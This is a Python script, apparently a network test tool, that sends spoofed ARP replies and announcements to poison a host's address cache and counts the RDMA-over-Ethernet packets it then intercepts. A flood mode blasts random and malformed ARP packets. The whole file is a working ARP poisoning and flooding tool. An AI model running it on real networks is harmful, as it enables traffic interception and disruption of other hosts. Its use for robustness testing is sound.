#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""A host that lies: sends false ARP packets on an Ethernet interface. Root only.

  arp_liar.py INTERFACE answer VICTIM_IP VICTIM_MAC CLAIMED_IP    tells one host, once, that an address is
                                        its own, and says how many RoCE packets it gets within a second
  arp_liar.py INTERFACE announce CLAIMED_IP SECONDS               tells all that an address is its own
  arp_liar.py INTERFACE flood SECONDS                             questions, answers and announcements of
                                        10.0.0.0/8 as fast as it can"""

import random
import socket
import struct
import sys
import time

ARP, IPV4, ROCE_PORT = 0x0806, 0x0800, 4791
ALL = b"\xff" * 6
REQUEST, REPLY = 1, 2


def arp(operation, sender_mac, sender_ip, target_mac, target_ip, destination):
    return destination + sender_mac + struct.pack("!HHHBBH", ARP, 1, IPV4, 6, 4, operation) + \
        sender_mac + socket.inet_aton(sender_ip) + target_mac + socket.inet_aton(target_ip)


def is_roce(frame, mac):
    return frame[:6] == mac and frame[12:14] == IPV4.to_bytes(2, "big") and frame[23] == socket.IPPROTO_UDP and \
        frame[36:38] == ROCE_PORT.to_bytes(2, "big")


def answer(wire, own, victim_ip, victim_mac, claimed_ip):
    victim = bytes.fromhex(victim_mac.replace(":", ""))
    wire.send(arp(REPLY, own, claimed_ip, victim, victim_ip, victim))
    heard, end = 0, time.monotonic() + 1
    while (left := end - time.monotonic()) > 0:
        wire.settimeout(left)
        try:
            heard += is_roce(wire.recv(65536), own)
        except TimeoutError:
            break
    print(f"{heard} packets heard")


def announce(wire, own, claimed_ip, seconds):
    sent, end = 0, time.monotonic() + float(seconds)
    while time.monotonic() < end:
        wire.send(arp(REQUEST, own, claimed_ip, bytes(6), claimed_ip, ALL))
        sent += 1
        time.sleep(0.02)
    print(f"{sent} announcements")


def flood(wire, _own, seconds):
    chance, sent, end = random.Random(1), 0, time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for _ in range(100):
            mac = b"\x02" + chance.randbytes(5)
            sender, target = (f"10.{chance.randrange(1, 255)}.{chance.randrange(256)}.{chance.randrange(256)}"
                              for _ in range(2))
            near = f"10.0.0.{chance.randrange(1, 4)}"
            sent += 1
            try:
                wire.send(chance.choice([
                    arp(REQUEST, mac, sender, bytes(6), near, ALL), arp(REPLY, mac, sender, ALL, near, ALL),
                    arp(REQUEST, mac, sender, bytes(6), sender, ALL), arp(REPLY, mac, sender, mac, target, ALL),
                    arp(chance.randrange(65536), mac, sender, mac, near, ALL),
                    arp(REPLY, mac, sender, ALL, near, ALL)[:chance.randrange(14, 42)]]))
            except OSError:  # the interface's queue is full
                time.sleep(0.001)
    print(f"{sent} packets sent")


def main():
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    wire.bind((sys.argv[1], 0x0003))
    own = wire.getsockname()[4]
    {"answer": answer, "announce": announce, "flood": flood}[sys.argv[2]](wire, own, *sys.argv[3:])


if __name__ == "__main__":
    main()
